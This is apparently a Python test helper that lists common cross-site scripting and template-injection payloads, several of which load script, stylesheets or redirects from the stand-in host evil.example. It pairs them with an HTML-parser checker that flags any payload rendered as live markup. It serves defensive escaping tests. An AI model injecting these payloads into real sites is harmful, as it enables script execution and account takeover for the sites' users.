"""Real XSS payloads, and an HTML-parser check that none of them became live markup in a page.

Every payload carries ``MARKER`` so an injected tag or attribute can be told from the page's own. The
template-injection payloads compute ``TEMPLATE_PRODUCT`` if some engine ever evaluates them.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

MARKER = "xss7331"
TEMPLATE_PRODUCT = "13377"  # 7 * 1911

PAYLOADS = [
    f"<script>alert('{MARKER}')</script>",
    f"<SCRIPT SRC=//evil.example/{MARKER}.js></SCRIPT>",
    f"<img src=x onerror=alert('{MARKER}')>",
    f"<svg onload=alert('{MARKER}')>",
    f"<svg><script>alert('{MARKER}')</script></svg>",
    f"<iframe src=\"javascript:alert('{MARKER}')\"></iframe>",
    f"<a href=\"javascript:alert('{MARKER}')\">{MARKER} link</a>",
    f"javascript:alert('{MARKER}')",
    f"\"><script>alert('{MARKER}')</script>",
    f"'><img src=x onerror=alert('{MARKER}')>",
    f'" onmouseover="alert(\'{MARKER}\')" x="',
    f"' autofocus onfocus='alert(\"{MARKER}\")' x='",
    f"</textarea><script>alert('{MARKER}')</script>",
    f"</title><script>alert('{MARKER}')</script>",
    f"<details open ontoggle=alert('{MARKER}')>",
    f"<body onload=alert('{MARKER}')>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARKER}')>",
    f"<a href=\"&#106;avascript:alert('{MARKER}')\">encoded</a>",
    f"<a href=\" JaVaScRiPt:alert('{MARKER}')\">spaced</a>",
    f"{{{{7*1911}}}} ${{7*1911}} #{{7*1911}} <%= 7*1911 %> {MARKER}",
    f"{{% debug %}}{{{{ request.user.password }}}} {MARKER}",
    f"\uff1cscript\uff1ealert('{MARKER}')\uff1c/script\uff1e",  # fullwidth angle brackets
    f"\u202egnp.exe {MARKER}\u200b\u2028<scr\u0000ipt>alert('{MARKER}')</script>",
    f"<style>@import 'https://evil.example/{MARKER}.css';</style>",
    f'<base href="https://evil.example/{MARKER}/">',
    f'<meta http-equiv="refresh" content="0;url=https://evil.example/{MARKER}">',
]

LIVE_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background"}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:text/html")
RAW_TAGS = {"script", "style", "iframe", "object", "embed", "base", "meta", "link", "frame", "frameset"}
DATA_SCRIPT_TYPES = {"application/json", "application/ld+json"}


def _scheme(value: str) -> str:
    return re.sub(r"[\x00-\x20]+", "", value).lower()


class _Finder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._raw: str | None = None

    def handle_starttag(self, tag, attrs):
        tag = tag.lower()
        joined = " ".join(f"{n}={v}" for n, v in attrs)
        for name, value in attrs:
            name, value = name.lower(), value or ""
            if MARKER in name:
                self.found.append(f"<{tag}> has an attribute named from the payload: {name}")
            if name.startswith("on") and MARKER in value:
                self.found.append(f"<{tag} {name}=…> event handler from the payload")
            if name in LIVE_URL_ATTRIBUTES and _scheme(value).startswith(DANGEROUS_SCHEMES):
                self.found.append(f"<{tag} {name}={value!r}> runs script")
            if name in ("srcdoc", "style") and MARKER in value:
                self.found.append(f"<{tag} {name}=…> from the payload")
        # a page's own <meta name=… content=…> may quote people's words; one that refreshes may not
        if tag in RAW_TAGS and MARKER in joined and (tag != "meta" or any(n == "http-equiv" for n, _ in attrs)):
            self.found.append(f"<{tag} {joined}> injected")
        types = {v for n, v in attrs if n == "type"}
        self._raw = tag if tag in ("script", "style") and not types & DATA_SCRIPT_TYPES else None

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        self._raw = None

    def handle_endtag(self, tag):
        self._raw = None

    def handle_data(self, data):
        if self._raw and MARKER in data:
            self.found.append(f"<{self._raw}> holds the payload: {data[:80]!r}")
        if TEMPLATE_PRODUCT in data and MARKER in data:
            self.found.append(f"a template expression from the payload was evaluated: {data[:80]!r}")


def live_injections(html: str) -> list[str]:
    """What in ``html`` a browser would run because of a payload (empty when every payload is inert)."""
    finder = _Finder()
    finder.feed(html)
    finder.close()
    return finder.found
